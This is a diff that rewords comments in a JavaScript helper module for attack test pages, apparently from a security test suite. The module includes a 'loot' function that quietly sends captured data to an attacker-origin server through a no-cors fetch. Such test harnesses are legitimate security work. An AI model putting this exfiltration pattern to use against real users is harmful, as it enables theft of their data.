@@ -1,5 +1,5 @@
-// What every page of an attack has: PROGRAM, FOREIGN and STRANGER are origins,
-// OVER the address to go to when the attack is over, '' without one.
+// Functions for the pages of attacks. PROGRAM, FOREIGN and STRANGER are origins, and
+// OVER is the address to go to when the attack is over, or ''.
 const {program, foreign, stranger, ran, gained, over, wait, loot, call, nextTo} = (() => {
   const log = console.log.bind(console);
   const stringify = JSON.stringify;
@@ -16,7 +16,7 @@ const {program, foreign, stranger, ran, gained, over, wait, loot, call, nextTo} 
   };
   return {
     program: PROGRAM, foreign: FOREIGN, stranger: STRANGER,
-    // ran proves that the attack was carried out, gained that it got something.
+    // ran proves that the attack was carried out, and gained that it succeeded.
     ran: say('ran'), gained: say('GAINED'),
     // over ends the attack.
     over: () => {
@@ -25,9 +25,9 @@ const {program, foreign, stranger, ran, gained, over, wait, loot, call, nextTo} 
       if (OVER !== '') later(() => go(OVER), 0);
     },
     wait: (ms) => new Promise_((done) => later(done, ms)),
-    // loot shows a server of the attacker's what it got.
+    // loot sends what the attack gained to a server of the attacker.
     loot: (what) => fetch_(FOREIGN + '/loot?' + encodeURIComponent(what), {mode: 'no-cors', keepalive: true}).catch(() => {}),
-    // call gives a call's outcome, whichever it is.
+    // call returns the result of a call, whether it succeeds or fails.
     call: (name, options) => new Promise_((done) => window.my.call(name, {...options, complete: done})),
     nextTo: (name) => new URL(name, location.href).href,
   };
